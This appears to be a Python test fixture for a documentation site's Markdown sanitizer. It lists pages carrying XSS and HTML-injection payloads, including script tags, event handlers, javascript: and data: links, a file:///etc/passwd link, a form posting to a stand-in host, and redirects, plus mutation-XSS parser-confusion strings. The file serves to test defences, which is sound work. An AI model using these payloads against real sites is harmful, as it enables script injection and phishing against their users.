"""What a page of the site's own (docs/) tries: Markdown with the place at which it has to be told."""

from dataclasses import dataclass


@dataclass(frozen=True)
class PageCase:
    """One attempt: the page's Markdown, the line that has to be named, title and description where they try it."""

    name: str
    text: str
    line: int
    titles: tuple[str, ...] = ()


PAGES = (
    PageCase("run-a-script", "# Trang\n\n<script>alert(1)</script>\n", 3),
    PageCase("run-a-script-in-capitals", "# Trang\n\nXem <ScRiPt src=//x.example/a.js></ScRiPt>\n", 3),
    PageCase("run-a-script-behind-a-comment", "# Trang\n\n<!-- --><script>alert(1)</script>\n", 3),
    PageCase("run-by-an-event", '# Trang\n\n<p onclick="alert(1)">x</p>\n', 3),
    PageCase("run-by-a-picture-that-fails", "# Trang\n\nx <img src=x onerror=alert(1)> y\n", 3),
    PageCase("run-by-an-attribute-in-braces", "# Trang\n\n## Mục {: onclick=alert(1) }\n", 3),
    PageCase("run-by-a-style-in-braces", "# Trang\n\n## Mục {: style=position:fixed }\n", 3),
    PageCase("run-by-a-link", "# Trang\n\n[x](javascript:alert(1))\n", 3),
    PageCase("run-by-a-link-in-entities", "# Trang\n\n[x](&#106;avascript:alert(1))\n", 3),
    PageCase("run-by-a-link-with-a-tab", '# Trang\n\n<a href="java&#9;script:alert(1)">x</a>\n', 3),
    PageCase("run-by-a-link-with-data", "# Trang\n\n[x](data:text/html,<script>alert(1)</script>)\n", 3),
    PageCase("read-files-by-a-link", "# Trang\n\n[x](file:///etc/passwd)\n", 3),
    PageCase("run-in-a-drawing", "# Trang\n\n<svg onload=alert(1)><script>1</script></svg>\n", 3),
    PageCase("run-in-a-formula", '# Trang\n\n<math><maction actiontype="statusline">x</maction></math>\n', 3),
    PageCase("show-another-site-in-a-frame", "# Trang\n\n<iframe src=https://x.example></iframe>\n", 3),
    PageCase("show-a-page-in-a-frame", '# Trang\n\n<iframe srcdoc="<script>1</script>"></iframe>\n', 3),
    PageCase("load-an-object", "# Trang\n\n<object data=a.pdf></object>\n", 3),
    PageCase("ask-for-a-password", "# Trang\n\n<form action=https://x.example><input name=p></form>\n", 3),
    PageCase("lead-all-links-elsewhere", "# Trang\n\n<base href=https://x.example/>\n", 3),
    PageCase("leave-by-itself", '# Trang\n\n<meta http-equiv="refresh" content="0;url=//x.example">\n', 3),
    PageCase("load-a-style-sheet", "# Trang\n\n<link rel=stylesheet href=//x.example/a.css>\n", 3),
    PageCase("hide-the-page-by-a-style", "# Trang\n\n<style>body{display:none}</style>\n", 3),
    PageCase("cover-the-page", '# Trang\n\n<div style="position:fixed;inset:0">x</div>\n', 3),
    PageCase("tell-another-site-who-reads", "# Trang\n\n![x](https://x.example/pixel.png)\n", 3),
    PageCase("tell-another-site-without-a-scheme", "# Trang\n\n![x](//x.example/pixel.png)\n", 3),
    PageCase("take-the-themes-settings", "# Trang\n\n## Mục {#__config}\n", 3),
    PageCase("an-element-that-nobody-knows", "# Trang\n\n<x-frame src=//x.example></x-frame>\n", 3),
    PageCase("a-template-that-others-fill", "# Trang\n\n<template><script>1</script></template>\n", 3),
    PageCase("a-button-for-something-else", "# Trang\n\n<button formaction=javascript:alert(1)>x</button>\n", 3),
    PageCase("play-a-film", "# Trang\n\n<video src=//x.example/a.mp4 onloadstart=alert(1)></video>\n", 3),
    PageCase("a-tag-in-the-title", "---\ntitle: <script>1</script>\n---\n# Trang\n", 2, ("<script>1</script>",)),
    PageCase("a-tag-in-the-description", "---\ndescription: '\"><img src=x>'\n---\n", 2, ('"><img src=x>',)),
    PageCase(
        "a-tag-spelled-in-the-heading", "# &lt;img src=x onerror=alert(1)&gt;\n", 1, ("<img src=x onerror=alert(1)>",)
    ),
)

# Browsers and other readers disagree on these: nothing need be told, but nothing may be published.
DISPUTED = {
    "a-comment-that-ends-early": "<!-- --!><script>alert(1)</script><!-- -->",
    "a-comment-that-never-began": "<!--><script>alert(1)</script>-->",
    "a-question": "<?x ><script>alert(1)</script>?>",
    "a-section-of-text": "<![CDATA[><script>alert(1)</script>]]>",
    "a-text-area": "<textarea><img title='</textarea><script>alert(1)</script>'>",
    "a-text-without-end": "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "a-formula-that-changes-sides": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table>",
    "a-drawing-that-changes-sides": "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "an-attribute-with-a-slash": "<img/src='x'/onerror=alert(1)>",
    "an-attribute-behind-a-zero": "<img src=x \0onerror=alert(1)>",
    "a-tag-without-end": "<img src=x onerror=alert(1) ",
}
